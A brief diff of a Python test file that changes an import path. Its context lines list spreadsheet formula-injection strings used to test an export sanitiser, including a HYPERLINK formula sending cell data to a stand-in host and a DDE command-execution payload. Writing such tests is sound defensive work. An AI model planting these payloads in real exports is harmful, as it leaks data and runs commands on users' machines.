@@ -14,7 +14,7 @@ from fastapi.testclient import TestClient
 from zhibiao.cli import main
 from zhibiao.export import csv_text, inert, xlsx_bytes
 from zhibiao.store import Database
-from zhibiao.store.ingest import ingest
+from zhibiao.ingest import ingest
 from zhibiao.web.app import create_app
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
